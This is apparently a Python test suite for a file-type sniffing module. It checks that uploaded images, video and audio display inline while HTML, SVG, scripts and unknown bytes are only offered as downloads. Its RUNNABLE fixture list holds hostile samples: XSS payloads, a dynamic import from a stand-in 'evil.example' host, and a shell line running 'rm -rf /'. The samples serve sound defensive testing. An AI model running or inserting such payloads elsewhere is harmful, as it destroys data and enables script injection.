import bz2
import gzip
import io
import lzma
import tarfile
import zipfile

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from PIL import Image

from campfire.blobs.sniffing import HEAD_BYTES, INLINE, SAVED_ONLY, is_inline, kind_of, sniff

HTML = b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
RUNNABLE = [
    HTML,
    SVG,
    b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>',
    b'<?xml version="1.0"?>' + SVG,
    b"<script>alert(1)</script>",
    b"import('//evil.example/x.js')",
    b"(function(){alert(1)})()",
    b"#!/bin/sh\nrm -rf /\n",
    b"%!PS-Adobe-3.0\n",
    b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n",
]
NAMES = ["a.html", "a.svg", "a.js", "a.xml", "a.xhtml", "a.png", "a.mp4", "a.pdf", "a.zip", "a.swf", "a", ""]
HARMLESS = INLINE | SAVED_ONLY | {"text/plain", "application/octet-stream"}


def picture(kind: str) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (9, 9)).save(file, kind)
    return file.getvalue()


def archive(*names: str) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as opened:
        for name in names:
            opened.writestr(name, "content")
    return file.getvalue()


def tar() -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as opened:
        opened.addfile(tarfile.TarInfo("a.txt"))
    return file.getvalue()


def iso_media(brand: bytes) -> bytes:
    return b"\0\0\0\x20ftyp" + brand + b"\0\0\2\0isomiso2avc1mp41\0\0\0\x08free"


def webm(*codecs: bytes) -> bytes:
    return b"\x1a\x45\xdf\xa3\x01\0\0\0\0\0\0\x1f\x42\x82\x84webm\x42\x87\x81\x04" + b"\xae\x86".join((b"", *codecs))


def ogg(packet: bytes) -> bytes:
    return b"OggS\0\x02" + bytes(20) + b"\x01\x1e" + packet


def without_bytes(value: object) -> str:
    """Name a case the same in every process: archives hold the time they were made."""
    return value if isinstance(value, str) else ""


DOCUMENT = archive("[Content_Types].xml", "word/document.xml")


@pytest.mark.parametrize(
    ("head", "media_type", "kind"),
    [
        (picture("PNG"), "image/png", "image"),
        (picture("JPEG"), "image/jpeg", "image"),
        (picture("GIF"), "image/gif", "image"),
        (picture("WEBP"), "image/webp", "image"),
        (picture("AVIF"), "image/avif", "image"),
        (iso_media(b"isom"), "video/mp4", "video"),
        (iso_media(b"mp42"), "video/mp4", "video"),
        (iso_media(b"qt  "), "video/quicktime", "video"),
        (iso_media(b"M4A "), "audio/mp4", "audio"),
        (webm(b"V_VP9", b"A_OPUS"), "video/webm", "video"),
        (webm(b"A_OPUS"), "audio/webm", "audio"),
        (webm(), "video/webm", "video"),
        (ogg(b"\x80theora"), "video/ogg", "video"),
        (ogg(b"\x01vorbis"), "audio/ogg", "audio"),
        (ogg(b"OpusHead"), "audio/ogg", "audio"),
        (b"ID3\x04\0\0\0\0\x0f\x76TSSE", "audio/mpeg", "audio"),
        (b"\xff\xfb\x90\x64\0", "audio/mpeg", "audio"),
        (b"\xff\xf1\x50\x80\0", "audio/aac", "audio"),
        (b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0", "audio/wav", "audio"),
        (b"fLaC\0\0\0\x22\x10\0", "audio/flac", "audio"),
    ],
    ids=without_bytes,
)
def test_what_browsers_show_is_shown_inline(head: bytes, media_type: str, kind: str) -> None:
    """Pictures, films and sounds, under whatever name they come."""
    for name in NAMES:
        assert sniff(head, name) == media_type
    assert is_inline(media_type) and kind_of(media_type) == kind


@pytest.mark.parametrize(
    ("head", "name", "media_type"),
    [
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3", "a.pdf", "application/pdf"),
        (b"%PDF-1.7\n", "a.html", "application/pdf"),
        (archive("a.txt"), "a.zip", "application/zip"),
        (archive("a.html"), "a.html", "application/zip"),
        (DOCUMENT, "a.DOCX", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        (DOCUMENT, "a.bin", "application/zip"),
        (tar(), "a.tar", "application/x-tar"),
        (gzip.compress(b"x"), "a.gz", "application/gzip"),
        (bz2.compress(b"x"), "a.bz2", "application/x-bzip2"),
        (lzma.compress(b"x"), "a.xz", "application/x-xz"),
        (picture("TIFF"), "a.tif", "image/tiff"),
        (picture("BMP"), "a.bmp", "image/bmp"),
        (picture("JPEG2000"), "a.jp2", "image/jp2"),
        (iso_media(b"heic"), "a.heic", "image/heic"),
        (b"RIFF\x24\0\0\0AVI LIST", "a.avi", "video/x-msvideo"),
        (b"\x1a\x45\xdf\xa3\x01\0\0\0\0\0\0\x23\x42\x82\x88matroska", "a.mkv", "video/x-matroska"),
        (b"hello", "a.txt", "text/plain"),
        ("größer 語".encode(), "a.exe", "text/plain"),
        (b"hel\0lo", "a.txt", "application/octet-stream"),
        (b"caf\xe9 noir", "a.txt", "application/octet-stream"),
        ("<html>".encode("utf-16"), "a.html", "application/octet-stream"),
        (bytes(600), "a.png", "application/octet-stream"),
        (b"RIFF\x24\0\0\0????", "a.webp", "application/octet-stream"),
        (b"", "a.png", "application/octet-stream"),
    ],
    ids=without_bytes,
)
def test_all_else_is_for_saving(head: bytes, name: str, media_type: str) -> None:
    """By its right name if we know it, as bytes if not."""
    assert sniff(head, name) == media_type
    assert not is_inline(media_type) and kind_of(media_type) == "file"


def test_a_text_is_one_wherever_its_head_ends() -> None:
    """In the middle of a character too."""
    text = "語".encode() * HEAD_BYTES
    assert {sniff(text[:length], "a") for length in range(HEAD_BYTES - 3, HEAD_BYTES)} == {"text/plain"}


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("head", RUNNABLE)
def test_what_could_run_is_text(head: bytes, name: str) -> None:
    """Whatever it is called."""
    for space in (b"", b"\n\t ", b"\xef\xbb\xbf", b"\0"):
        assert sniff(space + head, name) in ("text/plain", "application/octet-stream")


@given(st.binary(max_size=600), st.sampled_from(RUNNABLE), st.binary(max_size=600), st.sampled_from(NAMES) | st.text())
@example(b"\xff\xfe", HTML, b"", "a.html")
@example(b"PK\x03\x04", HTML, b"", "a.html")
def test_no_bytes_and_no_name_make_anything_run(before: bytes, payload: bytes, after: bytes, name: str) -> None:
    """Only types of our lists ever come out, and none of them runs in a browser."""
    media_type = sniff((before + payload + after)[:HEAD_BYTES], name)
    assert media_type in HARMLESS


def test_nothing_on_our_lists_can_run() -> None:
    """No markup, no script, and nothing inline but pictures, films and sounds."""
    assert not [each for each in HARMLESS for word in ("html", "svg", "script", "flash") if word in each]
    assert not [each for each in HARMLESS if each.endswith("xml") and "openxmlformats" not in each]
    assert {each.partition("/")[0] for each in INLINE} == {"image", "video", "audio"}
    assert not INLINE & SAVED_ONLY
